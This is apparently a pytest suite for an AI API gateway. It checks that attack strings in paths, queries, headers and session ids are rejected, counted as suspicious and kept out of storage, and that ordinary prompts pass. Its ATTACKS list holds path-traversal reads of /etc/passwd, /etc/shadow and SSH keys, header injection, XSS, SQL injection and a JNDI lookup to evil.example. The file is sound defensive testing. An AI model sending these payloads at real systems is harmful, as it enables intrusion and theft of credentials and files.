"""Attacks in paths, ids, queries and headers are refused and reach no store; what people say is never looked at."""

from __future__ import annotations

import random
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from yarl import URL

from fake_providers.scripted import ScriptedProvider
from ordinary_words import prompts
from scripted_gateway import Served, served

ATTACKS = (
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2fadmin",
    "%252e%252e%252fsecret",
    "..%5c..%5cwindows",
    "sess_%00",
    "sess_x%0d%0aSet-Cookie:%20a=b",
    "x%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%24%7Bjndi:ldap://evil.example/x%7D",
    "1%20UNION%20ALL%20SELECT%20password",
    "x/../../root/.ssh/id_rsa",
    "x/.env",
    "~/admin/",
    "(/etc/shadow)",
)
PATHS = (
    "/{}",
    "/api/{}",
    "/api/sessions/{}",
    "/api/sessions/{}/history",
    "/api/sessions/{}/metrics",
    "/api/sessions/{}/turns/{}",
    "/api/v1/{}/models",
    "/v1/models/{}",
    "/docs/assets/{}",
)
HEADERS = ("X-Session-Id", "Idempotency-Key", "X-Request-Id", "anthropic-beta")


@pytest.fixture
async def gateway(tmp_path: Path) -> AsyncIterator[Served]:
    async with served(tmp_path, [ScriptedProvider]) as gateway:
        yield gateway


@pytest.fixture
def stored(gateway: Served, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Everything that the store is asked, as text."""
    asked: list[str] = []
    store = gateway.gateway.store

    def watched(name: str) -> Any:
        method = getattr(store, name)

        def call(*args: Any, **kwargs: Any) -> Any:
            asked.append(f"{name} {args} {kwargs}")
            return method(*args, **kwargs)

        return call

    for name in dir(store):
        if not name.startswith("_") and callable(getattr(store, name)) and name not in ("open", "close"):
            monkeypatch.setattr(store, name, watched(name))
    return asked


def suspicious(gateway: Served) -> int:
    text = gateway.gateway.metrics.render()[0].decode()
    found = [line for line in text.splitlines() if 'security_events_total{event="suspicious_request"' in line]
    return int(float(found[0].rpartition(" ")[2])) if found else 0


@pytest.mark.parametrize("path", PATHS)
async def test_attacks_in_paths_and_ids(gateway: Served, stored: list[str], path: str) -> None:
    for number, attack in enumerate(ATTACKS, start=1):
        assert (await gateway.get(path.format(attack, attack))).status == 404, attack
        assert suspicious(gateway) == number, attack
    assert stored == []


@pytest.mark.parametrize("path", ["/api/sessions", "/api/providers", "/v1/models", "/api/usage", "/health/live"])
async def test_attacks_in_queries(gateway: Served, stored: list[str], path: str) -> None:
    for number, attack in enumerate(ATTACKS, start=1):
        where = ("cursor", "limit", "since", "x")[number % 4]
        assert (await gateway.get(f"{path}?{where}={attack}")).status == 400, attack
        assert (await gateway.get(f"{path}?{attack}=1")).status == 400, attack
        assert suspicious(gateway) == 2 * number, attack
    assert stored == []


async def test_attacks_in_queries_of_posts(gateway: Served, stored: list[str]) -> None:
    body = {"model": "scripted/m", "messages": [{"role": "user", "content": "hello"}]}
    for attack in ATTACKS:
        url = URL(f"{gateway.url}/v1/chat/completions?beta={attack}", encoded=True)
        async with gateway._client.post(url, json=body) as response:
            assert response.status == 400
    assert suspicious(gateway) == len(ATTACKS)
    assert (await gateway.post("/v1/messages?beta=true", {**body, "max_tokens": 9})).status == 200
    assert not any(attack in text for attack in ATTACKS for text in stored)


@pytest.mark.parametrize("header", HEADERS)
async def test_attacks_in_headers(gateway: Served, stored: list[str], header: str) -> None:
    body = {"model": "scripted/m", "messages": [{"role": "user", "content": "hello"}]}
    for number, attack in enumerate(ATTACKS, start=1):
        reply = await gateway.post("/v1/chat/completions", body, **{header: attack})
        assert reply.status == (404 if header == "X-Session-Id" else 400), attack
        assert suspicious(gateway) == number, attack
    assert stored == []
    assert gateway.plugins["scripted"].requests == []


async def test_attacks_in_the_ids_of_bodies(gateway: Served, stored: list[str]) -> None:
    for number, attack in enumerate(ATTACKS, start=1):
        reply = await gateway.post("/api/orchestrate", {"message": "hello", "session_id": attack})
        assert reply.status == 404
        assert suspicious(gateway) == number, attack
    assert stored == []


@pytest.mark.parametrize(
    "path",
    [
        "/v1/models/acme/admin-7b",
        "/v1/models/root%2Fadmin",
        "/api/sessions/admin",
        "/api/sessions?user_id=../../etc/passwd",
        "/api/sessions?metadata.path=/root/.ssh&metadata./admin/=<script>",
        "/api/usage?by=user_id,model&user_id=/admin/",
        "/api/usage?model=acme/admin-7b",
    ],
)
async def test_what_is_well_formed_or_a_word_of_people_is_no_attack(gateway: Served, path: str) -> None:
    assert (await gateway.get(path)).status in (200, 404)
    assert suspicious(gateway) == 0


async def test_ordinary_prompts_are_never_blocked(gateway: Served) -> None:
    for prompt in prompts(random.Random(7), 60):
        label = {"user_id": prompt[:40], "metadata": {"note": prompt}}
        chat = {"model": "scripted/m", "messages": [{"role": "user", "content": prompt}], "user": prompt[:60]}
        for path, body in (
            ("/api/orchestrate", {"message": prompt, "agent_config": {"system_prompt": prompt}}),
            ("/api/sessions", label),
            ("/v1/chat/completions", chat),
            ("/v1/messages", {**chat, "max_tokens": 99, "system": prompt} | {"user": None}),
            ("/v1/embeddings", {"model": "scripted/m", "input": [prompt]}),
            ("/api/v1/scripted/chat", {"messages": chat["messages"]}),
        ):
            sent = {name: value for name, value in body.items() if value is not None}
            reply = await gateway.post(path, sent)
            assert reply.status in (200, 201), (path, prompt, reply.body)
    assert suspicious(gateway) == 0
